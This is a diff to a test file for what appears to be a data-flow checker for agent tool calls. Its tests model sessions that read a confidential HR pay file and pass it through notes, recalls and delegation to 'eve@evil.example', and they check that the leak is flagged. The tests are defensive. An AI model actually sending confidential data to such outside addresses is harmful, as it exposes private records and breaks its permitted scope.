@@ -1,7 +1,8 @@
 import type { GoalSpec, ToolContract, ToolEffect } from "@enjoin/model";
 import { expect, it } from "vitest";
+import { EVERYTHING } from "./effects.js";
 import { reached } from "./goals.js";
-import { enforcerLabels, type Ground, happen, startOf, type World } from "./world.js";
+import { enforcerLabels, groundOf, happen, startOf, type World } from "./world.js";
 
 const read = contract("files.read", ["path"], [{ verb: "reads", roles: { from: ["path"] } }]);
 const copy = contract(
@@ -38,11 +39,11 @@ const pay = contract(
 );
 
 const all = [read, copy, remove, note, recall, ticket, send, fetch, hand, pay];
-const ground: Ground = {
-  resources: [{ tool: "files.read", arguments: { path: "/hr/pay" }, labels: ["confidential"] }],
-  contracts: new Map(all.map((c) => [c.name, c])),
-  inbox: new Map([["bob", "bob-1"]]),
-};
+const ground = groundOf(
+  { resources: [{ tool: "files.read", arguments: { path: "/hr/pay" }, labels: ["confidential"] }] },
+  new Map(all.map((c) => [c.name, c])),
+  new Map([["bob", "bob-1"]]),
+);
 const leak: GoalSpec = {
   kind: "flow",
   title: "leak",
@@ -67,9 +68,9 @@ it("finds declared data under every tool that reads the same place", () => {
 it("carries what a session knows through a note into another session", () => {
   const { world, changes } = play(
     call("ann-1", read, { path: "/hr/pay" }),
-    call("ann-1", note, { name: "n", text: "so" }),
+    call("ann-1", note, { name: "n", text: EVERYTHING }),
     call("bob-1", recall, { name: "n" }),
-    call("bob-1", send, { to: "eve@evil.example", body: "so" }),
+    call("bob-1", send, { to: "eve@evil.example", body: EVERYTHING }),
   );
   expect(reached(leak, world, changes)).toBe(
     "`confidential` data has reached `eve@evil.example`, which is not inside `acme.example`",
@@ -79,7 +80,7 @@ it("carries what a session knows through a note into another session", () => {
 it("does not mix up equal names of two systems", () => {
   const { world } = play(
     call("ann-1", read, { path: "/hr/pay" }),
-    call("ann-1", note, { name: "n", text: "so" }),
+    call("ann-1", note, { name: "n", text: EVERYTHING }),
     call("bob-1", ticket, { name: "n" }),
   );
   expect(world.holds.has("bob-1")).toBe(false);
@@ -93,10 +94,10 @@ it("tells the enforcer the labels of declared data, and nothing of what agents w
   expect(enforcerLabels(ground, call("bob-1", recall, { name: "n" }))).toEqual([]);
 });
 
-it("takes an empty text to carry nothing", () => {
+it("takes a text of its own to carry nothing", () => {
   const { changes } = play(
     call("ann-1", read, { path: "/hr/pay" }),
-    call("ann-1", send, { to: "eve@evil.example", body: "" }),
+    call("ann-1", send, { to: "eve@evil.example", body: "hello" }),
   );
   expect(changes).toEqual([]);
 });
@@ -104,7 +105,7 @@ it("takes an empty text to carry nothing", () => {
 it("knows a destination by its domain", () => {
   const inside = play(
     call("ann-1", read, { path: "/hr/pay" }),
-    call("ann-1", send, { to: "bob@acme.example", body: "so" }),
+    call("ann-1", send, { to: "bob@acme.example", body: EVERYTHING }),
   );
   expect(inside.changes).toHaveLength(1);
   expect(reached(leak, inside.world, inside.changes)).toBeUndefined();
@@ -113,7 +114,7 @@ it("knows a destination by its domain", () => {
 it("lets a delegated task know what the delegating session knew", () => {
   const { world } = play(
     call("ann-1", read, { path: "/hr/pay" }),
-    call("ann-1", hand, { to: "bob", task: "so" }),
+    call("ann-1", hand, { to: "bob", task: EVERYTHING }),
   );
   expect(world.holds.get("bob-1")).toEqual(new Set(["confidential"]));
 });
